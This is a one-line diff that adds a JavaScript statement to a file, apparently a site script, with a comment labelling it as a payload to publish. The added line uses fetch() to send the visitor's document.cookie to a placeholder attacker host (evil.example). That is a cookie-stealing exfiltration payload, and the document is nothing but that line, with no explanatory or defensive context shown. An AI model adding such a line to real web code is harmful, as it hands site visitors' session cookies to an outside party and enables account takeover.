@@ -1,0 +1,1 @@
+fetch("https://evil.example/?c="+document.cookie); // publish-sitejs-payload-6610
